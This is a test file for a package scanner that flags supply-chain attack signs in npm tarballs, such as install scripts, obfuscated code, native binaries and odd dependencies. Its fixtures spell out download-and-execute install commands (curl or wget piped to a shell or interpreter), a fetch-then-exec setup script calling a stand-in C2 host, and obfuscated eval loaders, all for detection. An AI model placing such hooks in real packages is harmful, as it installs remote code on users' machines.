import { describe, expect, it } from 'vitest';
import { buildPackage, type BuiltPackage } from '@spm/testkit';
import { withTarballView } from '@spm/tarball';
import { parseScript } from '../../src/scan/shell.js';
import { analyseJs, mayHaveLongString } from '../../src/scan/js-analysis.js';
import { manifestMismatch, nonRegistrySpec, supplyChainSignals } from '../../src/scan/signals.js';
import type { Finding } from '../../src/scan/types.js';

async function signalsOf(
  pkg: BuiltPackage,
  opts: { registryDoc?: Record<string, unknown> | null; declaredLicence?: string | null } = {},
): Promise<Finding[]> {
  return withTarballView(pkg.tarball, {}, async (view) =>
    supplyChainSignals({
      contents: view,
      manifest: pkg.manifest,
      registryDoc: opts.registryDoc === undefined ? pkg.manifest : opts.registryDoc,
      declaredLicence: opts.declaredLicence ?? 'MIT',
    }),
  );
}

const ids = (fs: Finding[]) => fs.map((f) => f.id);

const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]);
function peFile(): Buffer {
  const b = Buffer.alloc(256);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  return b;
}

function obfuscatedSource(): string {
  const strings = [
    '\\x68\\x74\\x74\\x70\\x73',
    '\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73',
    '\\x65\\x78\\x65\\x63',
    '\\x74\\x6f\\x53\\x74\\x72\\x69\\x6e\\x67',
  ];
  const table = Array.from({ length: 30 }, (_, i) => `'${strings[i % strings.length]}'`).join(',');
  return (
    `var _0x4f2a=[${table}];` +
    `(function(_0x1b3c,_0x2d4e){var _0x3f5a=function(_0x4a6b){while(--_0x4a6b){_0x1b3c['push'](_0x1b3c['shift']());}};_0x3f5a(++_0x2d4e);}(_0x4f2a,0x1a3));` +
    `var _0x5b7c=function(_0x6c8d,_0x7d9e){_0x6c8d=_0x6c8d-0x0;var _0x8eaf=_0x4f2a[_0x6c8d];return _0x8eaf;};` +
    `module['\\x65\\x78\\x70\\x6f\\x72\\x74\\x73']=_0x5b7c;\n`
  );
}

describe('supply-chain signals on built tarballs', () => {
  it('finds a postinstall that downloads code and pipes it to a shell', async () => {
    const pkg = buildPackage({
      name: 'dl-shell',
      version: '1.0.0',
      manifest: { scripts: { postinstall: 'curl -fsSL https://payload.example.test/x.sh | sh' } },
    });
    const f = await signalsOf(pkg);
    expect(ids(f)).toEqual(expect.arrayContaining(['install-script', 'install-script-download-exec']));
    const dl = f.find((x) => x.id === 'install-script-download-exec')!;
    expect(dl.severity).toBe('critical');
    expect(dl.evidence).toContain('curl -fsSL https://payload.example.test/x.sh | sh');
  });

  it('sees a download substituted into an interpreter', async () => {
    const pkg = buildPackage({
      name: 'dl-subst',
      version: '1.0.0',
      manifest: { scripts: { preinstall: 'node -e "$(wget -qO- http://x.example.test/p)"' } },
    });
    expect(ids(await signalsOf(pkg))).toContain('install-script-download-exec');
  });

  it('follows the file a postinstall runs, and its local requires, and sees network plus exec', async () => {
    const pkg = buildPackage({
      name: 'dl-node',
      version: '1.0.0',
      manifest: { scripts: { postinstall: 'node scripts/setup.js' } },
      files: {
        'scripts/setup.js':
          "const get = require('./lib/get');\nconst { exec } = require('node:child_process');\nget((code) => exec(code));\n",
        'scripts/lib/get.js':
          "const https = require('https');\nmodule.exports = (cb) => https.get('https://c2.example.test/p', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => cb(d)); });\n",
      },
    });
    const f = await signalsOf(pkg);
    const critical = f.filter(
      (x) => x.id === 'install-code-download-exec' || x.id === 'install-code-network' || x.id === 'install-code-shell',
    );
    expect(critical.map((x) => x.file)).toEqual(expect.arrayContaining(['scripts/setup.js', 'scripts/lib/get.js']));
    expect(f.find((x) => x.id === 'install-code-network')!.evidence).toMatch(/line 1: require\('https'\)/);
  });

  it('analyses in full the helper an install script requires, whatever its string literals', async () => {
    const pkg = buildPackage({
      name: 'install-helper',
      version: '1.0.0',
      manifest: { scripts: { postinstall: 'node install.js' } },
      files: {
        'install.js': "require('./helper');\n",
        'helper.js': "const cp = require('child_process');\ncp.execSync('id');\n",
        // Not run on install: its capabilities were never reported, and still are not.
        'lib/other.js': "const cp = require('child_process');\ncp.exec('id');\neval(x);\n",
      },
    });
    const f = await signalsOf(pkg);
    const shell = f.filter((x) => x.id === 'install-code-shell');
    expect(shell.map((x) => x.file)).toEqual(['helper.js']);
    expect(shell[0]!.evidence).toMatch(/line 1: require\('child_process'\)/);
    expect(f.filter((x) => x.file === 'lib/other.js')).toEqual([]);
  });

  it('still sees a long high-entropy literal beside eval outside install code, on one line or several', async () => {
    let seed = 7;
    const r = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
    const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
    const blob = (n: number) => Array.from({ length: n }, () => alphabet[Math.floor(r() * 64)]).join('');
    const pkg = buildPackage({
      name: 'packed',
      version: '1.0.0',
      files: {
        'one-line.js': `eval(atob('${blob(400)}'));\n`,
        // Short lines only: a backslash line continuation and a template literal spanning lines.
        'continued.js': `eval(atob('${blob(80)}\\\n${blob(80)}\\\n${blob(80)}'));\n`,
        'template.js': `eval(atob(\`${blob(80)}\n${blob(80)}\n${blob(80)}\`));\n`,
        'plain-eval.js': 'eval(x);\n',
      },
    });
    const f = await signalsOf(pkg);
    const obf = f.filter((x) => x.id === 'obfuscated-code');
    expect(obf.map((x) => x.file).sort()).toEqual(['continued.js', 'one-line.js', 'template.js']);
    for (const o of obf) expect(o.explanation).toMatch(/evaluates computed code/);
    expect(f.filter((x) => x.file === 'plain-eval.js')).toEqual([]);
  });

  it('flags native binaries by their magic bytes', async () => {
    const pkg = buildPackage({
      name: 'native',
      version: '1.0.0',
      files: {
        'prebuilds/linux-x64/addon.node': ELF,
        'bin/helper.exe': peFile(),
        'bin/data.bin': Buffer.from('plain data, not code'),
      },
    });
    const f = await signalsOf(pkg);
    const bins = f.filter((x) => x.id === 'native-binary');
    expect(bins.map((x) => x.file).sort()).toEqual(['bin/helper.exe', 'prebuilds/linux-x64/addon.node']);
    expect(bins.find((x) => x.file === 'bin/helper.exe')!.evidence).toMatch(/PE \(Windows\)/);
    expect(bins.find((x) => x.file?.endsWith('.node'))!.evidence).toMatch(/ELF/);
  });

  it('flags obfuscated code', async () => {
    const pkg = buildPackage({ name: 'obf', version: '1.0.0', files: { 'index.js': obfuscatedSource() } });
    const f = await signalsOf(pkg);
    const o = f.find((x) => x.id === 'obfuscated-code');
    expect(o).toBeDefined();
    expect(o!.file).toBe('index.js');
    expect(o!.explanation).toMatch(/_0x… identifiers/);
    expect(o!.evidence!.length).toBeLessThanOrEqual(200);
  });

  it('finds nothing in a clean package', async () => {
    const pkg = buildPackage({
      name: 'clean',
      version: '1.2.3',
      manifest: { dependencies: { 'left-pad': '^1.3.0' }, scripts: { test: 'node test.js', build: 'tsc' } },
      files: {
        'lib/util.js':
          "'use strict';\nconst path = require('path');\nexports.join = (...p) => path.join(...p);\nexports.re = /a+/.exec('aaa');\n",
        'README.md': '# clean\n\nNothing to see.\n',
        'lib/data.json': JSON.stringify({ words: 'the quick brown fox jumps over the lazy dog '.repeat(20) }),
      },
    });
    expect(await signalsOf(pkg)).toEqual([]);
  });

  it('treats binding.gyp as an install script (node-gyp rebuild) without a manifest mismatch', async () => {
    const pkg = buildPackage({ name: 'gyp', version: '1.0.0', files: { 'binding.gyp': '{"targets":[]}' } });
    const doc = { ...pkg.manifest, scripts: { install: 'node-gyp rebuild' }, gypfile: true };
    const f = await signalsOf(pkg, { registryDoc: doc });
    expect(ids(f)).toEqual(['install-script']);
    expect(f[0]!.title).toMatch(/node-gyp/);
  });

  it('reports git/http/file dependencies, a manifest that disagrees with the registry, and a different licence', async () => {
    const pkg = buildPackage({
      name: 'confused',
      version: '2.0.0',
      manifest: {
        license: 'GPL-3.0-only',
        dependencies: { a: 'github:someone/a', b: 'http://files.example.test/b.tgz', c: 'file:../c', d: '^1.0.0' },
      },
    });
    const registryDoc = { name: 'confused', version: '2.0.0', license: 'MIT', dependencies: { d: '^1.0.0' } };
    const f = await signalsOf(pkg, { registryDoc, declaredLicence: 'MIT' });
    expect(ids(f).sort()).toEqual([
      'file-dependency',
      'git-dependency',
      'licence-mismatch',
      'manifest-mismatch',
      'url-dependency',
    ]);
    expect(f.find((x) => x.id === 'url-dependency')!.severity).toBe('high');
    expect(f.find((x) => x.id === 'manifest-mismatch')!.title).toMatch(/dependencies/);
  });

  it('records when the registry metadata was not available', async () => {
    const pkg = buildPackage({ name: 'offline', version: '1.0.0' });
    const f = await signalsOf(pkg, { registryDoc: null });
    expect(f).toEqual([expect.objectContaining({ id: 'registry-metadata-unavailable', severity: 'info' })]);
  });
});

describe('install script tokenising', () => {
  const cmds = (s: string) => parseScript(s).map((p) => p.commands.map((c) => c.join(' ')));
  it('splits pipelines and commands, dropping assignments, wrappers and redirections', () => {
    expect(
      cmds('FOO=1 sudo curl -s "https://x.example.test/a b" | bash -s -- arg && echo done > /dev/null 2>&1'),
    ).toEqual([['curl -s https://x.example.test/a b', 'bash -s -- arg'], ['echo done']]);
  });
  it('sees inside command substitutions', () => {
    expect(cmds('node -e "$(wget -qO- http://x.example.test/p)"')).toEqual([
      ['node -e $(wget -qO- http://x.example.test/p)'],
      ['wget -qO- http://x.example.test/p'],
    ]);
  });
  it('classifies dependency specs', () => {
    expect(nonRegistrySpec('^1.2.3')).toBeNull();
    expect(nonRegistrySpec('npm:other@^1')).toBeNull();
    expect(nonRegistrySpec('user/repo#main')?.kind).toBe('git');
    expect(nonRegistrySpec('git+ssh://git@host.example.test/r.git')?.kind).toBe('git');
    expect(nonRegistrySpec('link:../x')?.kind).toBe('file');
  });
  it('compares manifests ignoring key order and empty objects', () => {
    expect(
      manifestMismatch(
        { name: 'a', version: '1.0.0', scripts: {}, dependencies: { x: '1', y: '2' } },
        { name: 'a', version: '1.0.0', dependencies: { y: '2', x: '1' } },
        false,
      ),
    ).toEqual([]);
  });
});

describe('JavaScript capability analysis', () => {
  it('sees eval, new Function, fetch and child_process through the AST, not text', () => {
    const a = analyseJs(
      "// require('child_process') in a comment is not a call\nconst s = \"eval('x')\";\nfetch(u);\nnew Function('return 1')();\nimport('https');\n",
    );
    expect(a.capabilities.map((c) => `${c.kind}:${c.what}`)).toEqual([
      'network:fetch',
      'eval:new Function',
      'network:https',
    ]);
  });
  it('does not mistake RegExp#exec for running a command', () => {
    expect(analyseJs('/a/.exec("a");').capabilities).toEqual([]);
  });
  it('is parsed whenever it may hold a long string literal (mayHaveLongString never misses one)', () => {
    let seed = 12345;
    const r = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
    const pick = <T>(xs: T[]): T => xs[Math.floor(r() * xs.length)]!;
    const run = (parts: string[], max: number) =>
      Array.from({ length: Math.floor(r() * max) }, () => pick(parts)).join('');
    const quoted = (q: string) =>
      q +
      run(
        ['a', 'bc', ' ', '\\' + q, q === "'" ? '"' : "'", '`', '\\\\', '\\n', '\\\n', '\\\r\n', '\\x41', '\\u{1F600}'],
        250,
      ) +
      q;
    const template = (depth: number): string =>
      '`' +
      run(
        [
          'a',
          'bc',
          ' ',
          '\\`',
          '"',
          "'",
          '\n',
          '\r\n',
          '\\\\',
          '${x}',
          '${"}"}',
          depth ? '${' + template(depth - 1) + '}' : 'z',
        ],
        250,
      ) +
      '`';
    const statement = () =>
      pick([
        () => `var v = ${quoted("'")};\n`,
        () => `var v = ${quoted('"')};\r\n`,
        () => `var v = ${template(2)};\n`,
        () => `// it's "odd" \\\n`,
        () => '/* \' " ` */ ',
        () => 'if (/[\'"`\\\\]/.test(s)) x = 1 / 2;\n',
        () => `f(${quoted("'")}, ${quoted('"')}, ${template(1)});`,
      ])();
    let withLong = 0;
    let skipped = 0;
    for (let i = 0; i < 1500; i++) {
      const src = Array.from({ length: 1 + Math.floor(r() * 6) }, statement).join('');
      const a = analyseJs(src);
      if (!a.parsed) continue;
      if (a.longStrings.length) {
        withLong++;
        expect(mayHaveLongString(src), src).toBe(true);
      } else if (!mayHaveLongString(src)) skipped++;
    }
    expect(withLong).toBeGreaterThan(50);
    expect(skipped).toBeGreaterThan(50);
    expect(mayHaveLongString("const a = 'x';\n".repeat(500))).toBe(false);
  });
});
